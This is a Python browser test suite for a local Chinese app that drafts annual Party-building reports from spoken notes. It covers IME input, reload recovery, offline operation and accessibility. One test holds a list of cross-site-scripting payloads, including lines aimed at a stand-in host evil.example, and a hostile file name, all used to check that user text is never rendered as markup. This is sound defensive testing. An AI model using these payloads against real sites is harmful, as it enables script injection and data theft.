"""The page in a real browser: talk, 拼音, refresh, kills, other windows, narrow screens; no request leaves the machine."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from browser import PageServer, open_window

pytestmark = [pytest.mark.slow, pytest.mark.loopback]
DATA = Path(__file__).parent / "data"
NOTES = """今年村书记、村干部培训办了6场，来了312人次。
发展党员转正4名，新吸收预备党员5名，35岁以下的3名。
软弱涣散党组织整顿了2个村，都摘了帽子。
存在的问题：有的村党组织带头人年龄偏大，后备力量不足；三会一课走过场，个别支部一年只开了三次。
原因是我抓得不紧，调研少，一年到头在镇上开会多。
下一步打算：明年6月底前每个村储备2名35岁以下后备干部，由组织委员负责。
"""


def settled(page: Any) -> None:
    """Waits until what was asked is done."""
    page.wait_for_function(
        "() => !document.body.classList.contains('waiting') && document.body.dataset.mode !== 'loading'"
    )


def begin(page: Any, year: str = "2025") -> str:
    """A new interview; its id."""
    page.goto("/")
    page.select_option("select[name=year]", year)
    page.click('[data-act="start.begin"]')
    page.wait_for_url(re.compile(r"\?s=[0-9a-f]{12}"))
    page.wait_for_selector("#asked")
    settled(page)
    found = re.search(r"s=([0-9a-f]{12})", page.url)
    assert found
    return found[1]


def say(page: Any, words: str) -> None:
    """Answers and waits for what comes of it."""
    said = page.locator(".log .said").count()
    page.fill("#say", words)
    page.press("#say", "Enter")
    page.wait_for_function(f"() => document.querySelectorAll('.log .said:not(.sending)').length > {said}")
    settled(page)


def reloaded(page: Any) -> None:
    """Loads the page anew; it may be doing that by itself just now, having found the server again."""
    from playwright.sync_api import Error

    for _ in range(3):
        try:
            page.reload()
            break
        except Error:
            page.wait_for_timeout(1000)
    settled(page)


def asked(page: Any) -> str:
    """The question that is open."""
    return str(page.inner_text("#asked"))


# first sight ------------------------------------------------------------------------------------------------------


def test_nothing_leaves_the_machine_and_nothing_complains(window: Any, page_server: PageServer) -> None:
    page = window.new_page()
    page.goto("/")
    page.wait_for_selector('[data-act="start.begin"]')
    assert page.evaluate("document.documentElement.lang") == "zh-CN"
    begin(page)
    say(page, "今年办了培训6场，来了312人次。")
    for tab in page.locator('[role="tab"]').all():
        tab.click()
        settled(page)
    page.click('[data-dialog="settings"]')
    assert page.is_visible("#settings")
    page.keyboard.press("Escape")
    assert not page.is_visible("#settings")
    assert window.seen.abroad == []
    assert window.seen.errors == []
    assert page_server.connections() == []
    fonts = page.evaluate("[...document.fonts].filter((one) => one.status === 'error').length")
    assert fonts == 0


def test_the_browser_itself_looks_nothing_up(window: Any) -> None:
    """Every name the page's own code could ask for is on this machine, the ones in attributes too."""
    page = window.new_page()
    begin(page)
    hosts = page.evaluate(
        """() => [...document.querySelectorAll('[src],[href],[action],[poster],[srcset]')]
        .map((one) => one.src || one.href || one.action || '').filter((one) => /^(https?:)?\\/\\//.test(one))
        .map((one) => new URL(one, location.href).host).filter((one) => one !== location.host)"""
    )
    assert hosts == []


# 拼音 --------------------------------------------------------------------------------------------------------------


def test_enter_while_composing_does_not_send(window: Any) -> None:
    page = window.new_page()
    begin(page)
    before = asked(page)
    page.focus("#say")
    session = window.new_cdp_session(page)
    session.send("Input.imeSetComposition", {"text": "pei xun", "selectionStart": 7, "selectionEnd": 7})
    key = {"key": "Process", "code": "Enter", "windowsVirtualKeyCode": 229, "nativeVirtualKeyCode": 229}
    session.send("Input.dispatchKeyEvent", {"type": "rawKeyDown", **key})
    session.send("Input.dispatchKeyEvent", {"type": "keyUp", **key})
    page.wait_for_timeout(300)
    assert page.locator(".log .said").count() == 0
    assert "pei" in page.input_value("#say")
    session.send("Input.insertText", {"text": "培训"})
    assert page.input_value("#say") == "培训"
    assert page.locator(".log .said").count() == 0
    assert asked(page) == before
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("6")
    assert page.input_value("#say") == "培训\n6"
    page.fill("#say", "2025年度")
    page.keyboard.press("Enter")
    page.wait_for_selector(".log .said:not(.sending)")
    settled(page)
    assert page.input_value("#say") == ""


# nothing is lost -----------------------------------------------------------------------------------------------------


def test_refresh_and_another_window_show_the_same_place(window: Any) -> None:
    page = window.new_page()
    session = begin(page)
    say(page, "2200字左右")
    place = asked(page)
    page.fill("#say", "说了一半的")
    page.reload()
    settled(page)
    page.wait_for_selector("#asked")
    assert asked(page) == place
    assert page.input_value("#say") == "说了一半的"
    second = window.new_page()
    second.goto(f"/?s={session}")
    settled(second)
    second.wait_for_selector("#asked")
    assert asked(second) == place
    second.fill("#say", "")
    say(second, "没有")
    page.bring_to_front()
    page.wait_for_timeout(3200)
    page.evaluate("window.dispatchEvent(new Event('focus'))")
    page.wait_for_function("words => document.querySelector('#asked')?.innerText === words", arg=asked(second))


def test_kill_in_the_middle_and_back(own_server: PageServer, chromium: Any) -> None:
    window = open_window(chromium, own_server)
    page = window.new_page()
    begin(page)
    say(page, "2200字左右")
    say(page, "没有")
    place, log = asked(page), page.inner_text(".log")
    page.fill("#say", "这一句还没有发出去")
    own_server.kill()
    page.press("#say", "Enter")
    page.wait_for_timeout(500)
    own_server.restart()
    reloaded(page)
    page.wait_for_selector("#asked")
    assert asked(page) == place
    assert page.inner_text(".log") == log
    assert page.input_value("#say") == "这一句还没有发出去"
    page.press("#say", "Enter")
    page.wait_for_function("() => document.querySelector('.log').innerText.includes('这一句还没有发出去')")
    window.close()


# text of others never runs ---------------------------------------------------------------------------------------------

PAYLOADS = (
    "<img src=x onerror=window.hit=1>",
    "<script>window.hit=1</script>",
    "<svg onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    '"><b onmouseover=window.hit=1>x</b>',
    "[x](javascript:window.hit=1)",
    "<a href='javascript:window.hit=1'>x</a>",
    "<details open ontoggle=window.hit=1>",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=window.hit=1 src>'>",
    "<base href='http://evil.example/'>",
    "<form action='http://evil.example/'><button id=say>x</button></form>",
    "<object data='data:text/html,<script>parent.hit=1</script>'></object>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "<input autofocus onfocus=window.hit=1>",
)


def harmless(page: Any) -> None:
    """No script ran, and nothing that could run or send was made of anybody's words."""
    assert page.evaluate("window.hit") is None
    found = page.evaluate(
        """() => [...document.querySelectorAll('.region *')].filter((one) =>
            ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'META', 'LINK', 'STYLE', 'MATH', 'SVG', 'IMG'].includes(one.tagName.toUpperCase())
            || [...one.attributes].some((told) => /^on/i.test(told.name) || /^\\s*(javascript|data):/i.test(told.value)
               || (/^(src|href|action)$/.test(told.name) && /evil/.test(told.value)))).map((one) => one.outerHTML.slice(0, 200))"""
    )
    assert found == []


def test_words_never_become_markup(window: Any, tmp_path: Path) -> None:
    page = window.new_page()
    page.on("dialog", lambda dialog: pytest.fail("a dialog was opened"))
    begin(page)
    for payload in PAYLOADS:
        say(page, f"办了培训6场{payload}")
        harmless(page)
    for tab in page.locator('[role="tab"]').all():
        tab.click()
        settled(page)
        harmless(page)
    notes = tmp_path / "<img src=x onerror=hit=1>笔记.txt"
    notes.write_text("\n".join(f"发展党员{n}名{payload}" for n, payload in enumerate(PAYLOADS, 3)), encoding="utf-8")
    page.set_input_files("[data-drop] input[type=file] >> nth=0", str(notes))
    page.wait_for_timeout(1500)
    settled(page)
    harmless(page)
    page.goto("/?s=<img src=x onerror=window.hit=1>")
    settled(page)
    harmless(page)
    assert window.seen.abroad == []


# narrow screens, keys, contrast ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("width", "height", "zoom"), [(390, 844, 1), (1366, 768, 1.25), (1366, 768, 1), (1920, 1080, 1)]
)
def test_it_fits_the_screen(width: int, height: int, zoom: float, chromium: Any, page_server: PageServer) -> None:
    window = open_window(chromium, page_server, round(width / zoom), round(height / zoom), device_scale_factor=zoom)
    page = window.new_page()
    page.goto("/")
    settled(page)
    page.wait_for_selector('[data-act="start.begin"]')
    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
    begin(page)
    say(page, "2200字左右")
    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
    for name in ("#say", "#send", "#asked"):
        box = page.locator(name).bounding_box()
        assert box
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= round(width / zoom)
        assert box["y"] + box["height"] <= round(height / zoom), name
    window.close()


def test_the_keyboard_reaches_everything(window: Any) -> None:
    page = window.new_page()
    begin(page)
    say(page, "2200字左右")
    unreachable = page.evaluate(
        """() => [...document.querySelectorAll('.region [data-act], .region [data-dialog], .region [data-tab], .region a')]
        .filter((one) => one.offsetParent && one.tabIndex < 0 && one.getAttribute('role') !== 'tab' && !one.matches('form'))
        .map((one) => one.outerHTML.slice(0, 120))"""
    )
    assert unreachable == []
    page.focus('[role="tab"][aria-selected="true"]')
    page.keyboard.press("ArrowRight")
    settled(page)
    assert page.locator('[role="tab"]').nth(1).get_attribute("aria-selected") == "true"
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    shadow = page.evaluate("getComputedStyle(document.activeElement).boxShadow")
    assert outline != "none" or shadow != "none"


# a whole interview ------------------------------------------------------------------------------------------------------


def uploaded(page: Any, path: Path) -> None:
    """A file dropped, read, and confirmed as it was read."""
    page.set_input_files("[data-drop] input[type=file] >> nth=0", str(path))
    page.wait_for_selector('[data-act="sheet.accept"]')
    settled(page)
    page.click('[data-act="sheet.accept"]')
    page.wait_for_selector('[data-act="sheet.accept"]', state="hidden")
    settled(page)


def test_from_notes_to_a_word_file(window: Any, tmp_path: Path) -> None:
    """Notes dropped on the start page, looked over, what is missing answered, drafted, taken away, read back."""
    import docx

    notes = tmp_path / "口述笔记.txt"
    notes.write_text(NOTES, encoding="gb18030")
    page = window.new_page()
    page.goto("/")
    page.select_option("select[name=year]", "2025")
    uploaded(page, notes)
    page.wait_for_selector("#asked")
    for _ in range(6):
        say(page, "没有" if page.locator('.chip[data-text="没有"]').count() else "稍后补")
    say(page, "写吧")
    page.wait_for_selector("#paper, .paper")
    settled(page)
    shown = page.inner_text("#at-draft")
    assert "6" in shown
    page.click('[role="tab"][data-tab="finish"]')
    settled(page)
    with page.expect_download() as coming:
        page.locator('#at-finish a[href*="/download/"][href*="report.docx"]').first.click()
    path = tmp_path / coming.value.suggested_filename
    coming.value.save_as(path)
    assert path.suffix == ".docx"
    assert "基层党建述职" in path.name
    text = "\n".join(paragraph.text for paragraph in docx.Document(str(path)).paragraphs)
    for words in ("履职工作", "存在的主要问题", "下一步"):
        assert words in text
    for figure in ("6", "312", "2"):
        assert figure in text
    figures = set(re.findall(r"\d+", text))
    assert figures <= set(re.findall(r"\d+", NOTES)) | {"2025", "2026", "35", "1", "3"}, figures
    assert window.seen.abroad == []
    assert window.seen.errors == []


def test_last_years_report_brings_its_promises(window: Any) -> None:
    page = window.new_page()
    page.goto("/")
    page.select_option("select[name=year]", "2025")
    page.set_input_files("[data-drop] input[type=file] >> nth=0", str(DATA / "last_year" / "fengshu_2024.txt"))
    page.wait_for_selector('[data-act="sheet.accept"]')
    settled(page)
    assert "去年" in page.inner_text("#work")
    page.click('[data-act="sheet.accept"]')
    page.wait_for_selector("#asked")
    settled(page)
    page.click(".board summary")
    assert page.locator('.board [data-key^="L"]').count() >= 3


def test_the_finished_example_opens_in_one_click(window: Any) -> None:
    page = window.new_page()
    page.goto("/")
    page.click('[data-act="start.sample"]')
    page.wait_for_url(re.compile(r"\?s="))
    settled(page)
    assert len(page.inner_text("#at-draft")) > 1000


# axe ----------------------------------------------------------------------------------------------------------------------


def test_no_serious_barrier(window: Any) -> None:
    """axe-core over the start page, the settings, the talk, and every tab of the finished example."""
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="the extra `test` is not installed")
    page = window.new_page()
    page.goto("/")
    page.wait_for_selector('[data-act="start.begin"]')
    settled(page)
    found = barriers(axe, page, "start")
    page.click('[data-dialog="settings"]')
    found += barriers(axe, page, "settings")
    page.keyboard.press("Escape")
    begin(page)
    say(page, "2200字左右")
    found += barriers(axe, page, "talk")
    page.goto("/")
    page.click('[data-act="start.sample"]')
    page.wait_for_url(re.compile(r"\?s="))
    settled(page)
    page.click(".board summary")
    for tab in page.locator('[role="tab"]').all():
        tab.click()
        settled(page)
        page.wait_for_timeout(200)
        found += barriers(axe, page, str(tab.get_attribute("data-tab")))
    assert found == []


def barriers(axe: Any, page: Any, place: str) -> list[str]:
    """What axe calls serious or critical, a line each."""
    told = axe.Axe().run(page).response["violations"]
    return [
        f"{place}: {one['id']} {one['help']}: {node['html'][:160]} {[c.get('message', '')[:160] for c in node['any'][:1]]}"
        for one in told
        if one["impact"] in ("serious", "critical")
        for node in one["nodes"][:3]
    ]
